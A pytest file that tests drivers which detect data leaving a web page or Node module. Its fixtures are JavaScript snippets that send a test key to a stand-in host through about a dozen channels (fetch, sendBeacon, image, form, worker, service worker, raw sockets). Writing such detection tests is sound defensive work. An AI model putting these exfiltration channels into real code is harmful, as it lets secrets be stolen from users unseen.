"""What leaves a console, by every way there is, and what its page shows between a press and a response."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path

import pytest

from technogate.drivers.module.module_driver import ModuleDriver
from technogate.drivers.page.chromium import browser_missing
from technogate.drivers.page.page_driver import BrowserDriver
from tests.stand_in import StandIn, StandInRequest, http_response

pytestmark = pytest.mark.slow

OTHER = "http://other.invalid:8080"
KEY = "key-of-the-tests-0001"

#: Each way out of a page, as a statement of its script.
WAYS = {
    "fetch": "fetch(O + 'fetch', { method: 'POST', mode: 'no-cors', body: K }).catch(() => {});",
    "fetch-blob": "fetch(O + 'fetch-blob', { method: 'POST', mode: 'no-cors', body: new Blob([K]) }).catch(() => {});",
    "fetch-form": "const d = new FormData(); d.append('f', new Blob([K]), 'n');"
    "fetch(O + 'fetch-form', { method: 'POST', mode: 'no-cors', body: d }).catch(() => {});",
    "xhr-blob": "const x = new XMLHttpRequest(); x.open('POST', O + 'xhr-blob'); x.send(new Blob([K]));",
    "beacon": "navigator.sendBeacon(O + 'beacon', K);",
    "beacon-blob": "navigator.sendBeacon(O + 'beacon-blob', new Blob([K]));",
    "image": "new Image().src = O + 'image?k=' + K;",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = O + 'prefetch?k=' + K;"
    "document.head.append(l);",
    "form": "const f = document.createElement('form'); f.method = 'POST'; f.action = O + 'form'; f.target = 'frame';"
    "f.innerHTML = `<input name=k value=${K}>`; document.body.append(f); f.submit();",
    "popup": "open(O + 'popup?k=' + K);",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${O}worker',"
    " { method: 'POST', mode: 'no-cors', body: '${K}' }).catch(() => {})`])));",
    "service-worker": "navigator.serviceWorker.register('/sw.js');",
    "left": "addEventListener('pagehide', () => navigator.sendBeacon(O + 'left', new Blob([K])));",
}
PAGE = """<!doctype html><body><input data-testid="command-input"><button data-testid="command-run">Run</button>
<div data-testid="result"><b data-testid="result-status"></b></div><iframe name="frame"></iframe><script>
const O = "OTHER/", K = "KEY";
document.querySelector("button").onclick = () => { WAYS };
</script>"""
WATCHED = """<!doctype html><style>.late::after { content: "APPROVED" }</style><body>
<input data-testid="command-input"><button data-testid="command-run">Run</button>
<div data-testid="result"><b data-testid="result-status"></b><p id="note"></p></div><script>
const status = document.querySelector("b"), note = document.getElementById("note");
document.querySelector("button").onclick = () => {
  status.textContent = "NEVER_SEEN";
  Promise.resolve().then(() => { status.textContent = "A"; });
  setTimeout(() => { status.textContent = "B"; }, 20);
  setTimeout(() => { status.hidden = true; note.className = "late"; }, 40);
};
</script>"""
SERVICE_WORKER = """addEventListener("install", () => {
  fetch("OTHER/service-worker", { method: "POST", mode: "no-cors", body: "KEY" }).catch(() => {});
});"""


def served(page: str) -> StandIn:
    """A server of one page and its service worker."""

    def respond(request: StandInRequest) -> bytes:
        script = request.path == "/sw.js"
        text = (SERVICE_WORKER if script else page).replace("OTHER", OTHER).replace("KEY", KEY)
        return http_response(200, text.encode(), content_type="text/javascript" if script else "text/html")

    return StandIn(respond)


@pytest.fixture
def page() -> Iterator[BrowserDriver]:
    """A page that sends the key by every way when its button is pressed."""
    if reason := browser_missing()[0]:
        pytest.skip(": ".join((reason, browser_missing()[1])))
    statements = " ".join(f"{{ {statement} }}" for statement in WAYS.values())
    with served(PAGE.replace("WAYS", statements)) as server, BrowserDriver(server.url) as driver:
        yield driver


def test_reports_every_way_out_of_a_page(page: BrowserDriver) -> None:
    """Each way is reported with the key in its URL or its body; the last one when the page is left."""
    page.start_execute("PING")
    page.wait_until_complete()
    page.leave()
    page.wait_until_complete()
    found = {
        match[1]
        for request in page.outgoing()
        if (match := re.match(rf"{OTHER}/([\w-]+)", request.url)) and KEY in request.url + request.body.decode()
    }
    assert found == set(WAYS)


def test_records_every_state_that_outlives_a_turn() -> None:
    """Brief states and what a style sheet adds are recorded in order; what no turn of the event loop ends in is not."""
    if reason := browser_missing()[0]:
        pytest.skip(": ".join((reason, browser_missing()[1])))
    with served(WATCHED) as server, BrowserDriver(server.url) as driver:
        blank = driver.watch()
        driver.start_execute("PING")
        displays = driver.watched(0.3)
    assert (blank.status, displays[0].status) == ("", "")
    assert [display.status for display in displays if display.status] == ["A", "B"]
    assert "APPROVED" in displays[-1].text
    assert all(earlier.until <= later.at for earlier, later in pairwise(displays))
    assert displays[-1].frames


MODULE = """
import http from "node:http";
import https from "node:https";
import net from "node:net";
const O = "OTHER/", K = "KEY";
const quiet = (request) => request.on("error", () => {});
const ways = {
  fetch: () => fetch(O + "fetch", { method: "POST", body: K }),
  blob: () => fetch(O + "blob", { method: "POST", body: new Blob([K]) }),
  bytes: () => fetch(O + "bytes", { method: "POST", body: new TextEncoder().encode(K) }),
  form: () => {
    const body = new FormData();
    body.append("k", K);
    return fetch(O + "form", { method: "POST", body });
  },
  request: () => fetch(new Request(O + "request", { method: "POST", body: K })),
  header: () => fetch(O + "header", { headers: { "X-API-Key": K } }),
  http: () => quiet(http.request("http://127.0.0.1:9/http", { method: "POST" })).end(K),
  https: () => quiet(https.request("https://127.0.0.1:9/https", { method: "POST" })).end(K),
  socket: () => quiet(net.connect(9, "127.0.0.1")).end(`socket ${K}`),
};
export async function executeCommand(way) {
  try { await ways[way](); } catch {}
  await new Promise((resolve) => setTimeout(resolve, 20));
  await fetch(process.env.NEXT_PUBLIC_API_URL, { method: "POST", body: K });
  return { status: "APPROVED" };
}
export async function fetchAuditLog() { return []; }
export async function fetchMemory() { return null; }
"""


@pytest.mark.parametrize("way", ["fetch", "blob", "bytes", "form", "request", "header", "http", "https", "socket"])
def test_reports_every_way_out_of_a_module(tmp_path: Path, way: str) -> None:
    """An attempt to reach another place is reported with what it would have sent; the backend's requests are not."""
    module = tmp_path / "client.mjs"
    module.write_text(MODULE.replace("OTHER", OTHER).replace("KEY", KEY), encoding="utf-8")
    with StandIn(lambda _: http_response(200, b"{}")) as backend:
        env = {"NEXT_PUBLIC_API_URL": backend.url}
        with ModuleDriver(module, env=env, base=backend.url) as driver:
            assert driver.execute(way).fields["status"] == "APPROVED"
            sent = driver.outgoing()
    assert sent
    assert any(KEY in str(request.sent) + request.body.decode() for request in sent)
    assert not any(request.url.startswith(backend.url) for request in sent)
